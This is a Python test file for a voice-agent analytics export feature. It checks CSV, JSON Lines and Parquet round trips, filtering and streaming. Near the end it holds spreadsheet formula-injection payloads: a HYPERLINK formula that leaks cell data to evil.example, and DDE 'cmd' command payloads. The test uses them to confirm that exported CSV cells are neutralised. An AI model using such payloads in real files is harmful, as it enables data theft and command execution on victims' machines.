"""Exports of the seeded conversations: what comes out parses back to what is stored, filtered."""

from __future__ import annotations

import csv
import datetime as dt
import io
import unicodedata
from collections.abc import Iterator
from typing import Any

import orjson
import pyarrow as pa
import pyarrow.csv as pa_csv
import pyarrow.parquet as pq
import pytest
from sqlalchemy import Engine, select, update
from sqlalchemy.orm import Session as DbSession

from tests.seeded import OTHER_APP_ID, Round, Seed, seed, seed_committed
from worker.analysis import exports, parquet
from worker.analysis.catalog import SessionFilter
from worker.db import make_sessionmaker
from worker.models import Session
from worker.settings import Settings


def _ms(seed_: Seed, offset_ms: int) -> dt.datetime:
    return seed_.start + dt.timedelta(milliseconds=offset_ms)


def _joined(sentences: list[str]) -> str:
    """The agent's sentences as one reply: no space where either side is a CJK character."""
    out = ""
    for s in sentences:
        wide = out and (
            unicodedata.east_asian_width(out[-1]) in "WF" or unicodedata.east_asian_width(s[0]) in "WF"
        )
        out += s if not out or wide else " " + s
    return out


def expected_turns(seeds: list[Seed]) -> list[dict[str, Any]]:
    """Turn rows as the seed plan says they were spoken, sessions by start, user before agent."""
    out = []
    for s in sorted(seeds, key=lambda s: s.start):
        for i, r in enumerate(s.rounds):
            speak_end = 2000 + i * s.round_gap_ms + r.speech_ms
            common = {"session_id": s.session_id, "agent_instance_id": s.key, "round": s.round_number(i)}
            out.append(
                common
                | {
                    "speaker": "user",
                    "text": r.user,
                    "spoken_at": _ms(s, speak_end + 80),  # the ASRResult
                    "interrupted": False,
                    "interrupt_reason": None,
                    "played_text": None,
                    "user_id": s.user_id,
                }
            )
            out.append(
                common
                | {
                    "speaker": "agent",
                    "text": _joined(r.agent),
                    "spoken_at": _ms(s, speak_end + r.response_ms),  # the first LLMResult
                    "interrupted": r.played is not None,
                    "interrupt_reason": 1 if r.played is not None else None,
                    "played_text": r.played,
                    "user_id": None,
                }
            )
    return out


def expected_sessions(db: DbSession, seeds: list[Seed]) -> list[dict[str, Any]]:
    """Session rows: counts and times from the seed plan; what policies decided from the row."""
    stored = {row.id: row for row in db.scalars(select(Session))}
    out = []
    for s in sorted(seeds, key=lambda s: s.start):
        row = stored[s.session_id]
        out.append(
            {
                "id": s.session_id,
                "app_id": s.app_id,
                "provider": s.provider,
                "template": s.template,
                "agent_id": s.agent_id,
                "agent_name": row.agent_name,
                "room_id": s.room_id,
                "user_id": s.user_id,
                "state": "active" if s.delete_code is None else "ended",
                "end_reason": row.end_reason,
                "end_code": s.delete_code,
                "flag": row.flag,
                "started_at": s.started_at,
                "ended_at": s.ended_at,
                "duration_seconds": s.duration_seconds,
                "turns": s.turns,
                "user_turns": len(s.rounds),
                "agent_turns": len(s.rounds),
                "interruptions": sum(r.played is not None for r in s.rounds),
                "exceptions": len(s.exceptions),
                "instances": 1,
                "recreations": 0,
                # No post-call analysis in the seed: its columns are empty (tests/worker/postcall).
                "analysis_summary": None,
                "analysis_outcome": None,
                "analysis_data": None,
                # No room callback in the seed: unknown, never 0.
                "no_user_seconds": None,
            }
        )
    return out


def _typed(schema: pa.Schema, name: str, value: Any) -> Any:
    """A text format's value read back as the column's type."""
    kind = schema.field(name).type
    if value is None or (value == "" and name != "text"):
        return None
    if pa.types.is_timestamp(kind):
        return dt.datetime.fromisoformat(value)
    if pa.types.is_boolean(kind):
        return {"true": True, "false": False}[value] if isinstance(value, str) else value
    if pa.types.is_integer(kind):
        return int(value)
    if pa.types.is_floating(kind):
        return float(value)
    return value


def parse(kind: str, fmt: str, data: bytes) -> list[dict[str, Any]]:
    schema = parquet.arrow_schema(exports.COLUMNS[kind])
    if fmt == "parquet":
        table = pq.read_table(io.BytesIO(data))
        assert table.schema.names == schema.names
        return list(table.to_pylist())
    if fmt == "jsonl":
        records = [orjson.loads(line) for line in data.splitlines()]
        assert all(list(r) == schema.names for r in records)
    else:
        reader = csv.DictReader(io.StringIO(data.decode(), newline=""))
        assert reader.fieldnames == schema.names
        records = list(reader)
    return [{name: _typed(schema, name, r[name]) for name in schema.names} for r in records]


def export(db: DbSession, kind: str, fmt: str, f: SessionFilter | None = None) -> bytes:
    return b"".join(exports.encode(kind, fmt, exports.rows(db, kind, f or SessionFilter())))


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_turns_round_trip(db: DbSession, settings: Settings, fmt: str) -> None:
    """Every seeded turn comes back from the file as spoken: text, times, cuts, in conversation order."""
    seeds = seed(db, settings)
    assert parse("turns", fmt, export(db, "turns", fmt)) == expected_turns(seeds)


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_sessions_round_trip(db: DbSession, settings: Settings, fmt: str) -> None:
    """Every seeded session comes back with its times, duration, counts and how it ended."""
    seeds = seed(db, settings)
    assert parse("sessions", fmt, export(db, "sessions", fmt)) == expected_sessions(db, seeds)


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_time_with_no_user_comes_out_as_a_number_or_empty(
    db: DbSession, settings: Settings, fmt: str
) -> None:
    """A session whose user was out of the room for 25.5 billed seconds exports that number, as a
    double in Parquet; the others, never heard of in a room callback, export nothing there."""
    seeds = seed(db, settings)
    left = seeds[2].session_id
    db.execute(update(Session).where(Session.id == left).values(no_user_seconds=25.5))
    got = {r["id"]: r["no_user_seconds"] for r in parse("sessions", fmt, export(db, "sessions", fmt))}
    assert got == {s.session_id: 25.5 if s.session_id == left else None for s in seeds}
    if fmt == "parquet":
        schema = pq.read_schema(io.BytesIO(export(db, "sessions", fmt)))
        assert schema.field("no_user_seconds").type == pa.float64()


@pytest.mark.parametrize(
    ("f", "picked"),
    [
        (SessionFilter(has_interruptions=True), lambda s: s.interrupted),
        (SessionFilter(app_id=OTHER_APP_ID), lambda s: s.app_id == OTHER_APP_ID),
        (SessionFilter(has_exceptions=True, min_turns=4), lambda s: bool(s.exceptions) and s.turns >= 4),
        (
            SessionFilter(
                since=dt.datetime(2026, 11, 17, tzinfo=dt.UTC), until=dt.datetime(2026, 11, 18, tzinfo=dt.UTC)
            ),
            lambda s: s.start.date() == dt.date(2026, 11, 17),
        ),
    ],
)
def test_exports_hold_only_the_filtered_sessions(
    db: DbSession, settings: Settings, f: SessionFilter, picked: Any
) -> None:
    """The list's filters narrow an export of sessions and of turns alike; count() agrees with both."""
    seeds = seed(db, settings)
    wanted = [s for s in seeds if picked(s)]
    assert wanted and len(wanted) < len(seeds)
    sessions = parse("sessions", "jsonl", export(db, "sessions", "jsonl", f))
    turns = parse("turns", "csv", export(db, "turns", "csv", f))
    assert [r["id"] for r in sessions] == [s.session_id for s in sorted(wanted, key=lambda s: s.start)]
    assert turns == expected_turns(wanted)
    assert exports.count(db, "sessions", f) == len(wanted)
    assert exports.count(db, "turns", f) == sum(s.turns for s in wanted)


def test_an_empty_export_is_still_a_readable_file(db: DbSession, settings: Settings) -> None:
    """No matching session: a CSV with its header, an empty JSON Lines file, a Parquet file with the columns."""
    seed(db, settings)
    nobody = SessionFilter(user_id="nobody")
    assert export(db, "turns", "csv", nobody).decode().splitlines() == [
        ",".join(exports.COLUMNS["turns"].names)
    ]
    assert export(db, "turns", "jsonl", nobody) == b""
    table = pq.read_table(io.BytesIO(export(db, "sessions", "parquet", nobody)))
    assert (table.num_rows, table.schema.names) == (0, exports.COLUMNS["sessions"].names)


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_encoding_streams_a_chunk_before_reading_everything(
    fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first bytes leave after one row group (Parquet) or chunk (text), not after the last row."""
    monkeypatch.setattr(parquet, "ROW_GROUP_ROWS", 100)
    monkeypatch.setattr(exports, "CHUNK_BYTES", 4096)
    read = 0

    def many() -> Iterator[dict[str, Any]]:
        nonlocal read
        for n in range(10_000):
            read += 1
            yield {
                "session_id": "s",
                "agent_instance_id": "i",
                "round": n,
                "speaker": "user",
                "text": '一二三 hello, "quoted"\nnew line',
                "spoken_at": dt.datetime(2026, 11, 16, tzinfo=dt.UTC) + dt.timedelta(seconds=n),
                "interrupted": n % 2 == 0,
                "interrupt_reason": None,
                "played_text": None,
                "user_id": "u",
            }

    chunks = exports.encode("turns", fmt, many())
    first = next(chunks)
    assert first and read <= 200
    data = first + b"".join(chunks)
    assert read == 10_000
    back = parse("turns", fmt, data)
    assert len(back) == 10_000 and back[9_999]["round"] == 9_999
    assert back[3]["text"] == '一二三 hello, "quoted"\nnew line'


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_write_reports_progress_and_writes_the_whole_export(
    clean_engine: Engine, settings: Settings, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """write() (what the CLI runs) reports rows as it goes, adding up to what it wrote and returned."""
    monkeypatch.setattr(exports, "FETCH_ROWS", 7)
    factory = make_sessionmaker(clean_engine)
    seeds = seed_committed(factory, settings)
    progress: list[int] = []
    out = io.BytesIO()
    written = exports.write(factory, "turns", fmt, SessionFilter(), out, progress.append)
    total = sum(s.turns for s in seeds)
    assert written == total == sum(progress)
    assert len(progress) > 1 and all(n <= 7 for n in progress)
    assert parse("turns", fmt, out.getvalue()) == expected_turns(seeds)


def test_unknown_kind_or_format_is_refused() -> None:
    """A typo in the kind or format is an error that names the choices."""
    with pytest.raises(exports.ExportError, match="sessions, turns"):
        exports.check("events", "csv")
    with pytest.raises(exports.ExportError, match="jsonl, csv, parquet"):
        exports.check("turns", "xlsx")


FORMULAS = {
    "room_id": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "user_id": "+cmd|' /C calc'!A0",
    "agent_id": "-2+3+cmd|' /C calc'!A0",
    "agent_name": "@SUM(1+1)*cmd|' /C calc'!A0",
}
SPOKEN = ["\tleading tab", "=1+1", "\rcarriage return", "- a dash is only text", "plain words", "@mention"]


@pytest.mark.parametrize("kind", exports.KINDS)
def test_csv_cells_that_could_start_a_formula_are_neutralised(
    db: DbSession, settings: Settings, kind: str
) -> None:
    """Opened by real CSV readers (Python's csv, pyarrow's), every text cell a spreadsheet would run
    as a formula starts with ``'``; the rest of the cell, and every other cell, is as it was spoken."""
    formula = Seed(
        key="inst-formulas",
        app_id=OTHER_APP_ID,
        room_id=FORMULAS["room_id"],
        user_id=FORMULAS["user_id"],
        agent_id=FORMULAS["agent_id"],
        start=dt.datetime(2026, 11, 3, 9, tzinfo=dt.UTC),
        rounds=[Round(SPOKEN[0], [SPOKEN[1]]), Round(SPOKEN[2], [SPOKEN[3]]), Round(SPOKEN[4], [SPOKEN[5]])],
    )
    seed(db, settings, [formula])
    db.execute(update(Session).values(agent_name=FORMULAS["agent_name"]))
    data = export(db, kind, "csv")

    with_csv = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    with_arrow = pa_csv.read_csv(
        io.BytesIO(data), convert_options=pa_csv.ConvertOptions(strings_can_be_null=False)
    ).to_pylist()
    for rows in (with_csv, with_arrow):
        assert rows
        for row in rows:
            for name, value in row.items():
                if isinstance(value, str) and value:
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
        for name, original in FORMULAS.items():
            if name in rows[0]:
                assert {row[name] for row in rows} - {""} == {"'" + original}, name
        if kind == "turns":
            said = [row["text"] for row in rows]
            assert said == ["'" + t if t[0] in "=+-@\t\r" else t for t in SPOKEN]


def test_a_web_process_does_not_load_pyarrow_until_a_parquet_export_runs() -> None:
    """pyarrow is tens of megabytes in every process that imports it; only Parquet needs it."""
    import subprocess
    import sys

    probe = (
        "import sys, webhooks.app, worker.tasks; loaded = 'pyarrow' in sys.modules; "
        "from worker.analysis import exports; list(exports.encode('turns', 'parquet', iter([]))); "
        "print(loaded, 'pyarrow' in sys.modules)"
    )
    out = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True)
    assert out.stdout.split() == ["False", "True"], out.stderr
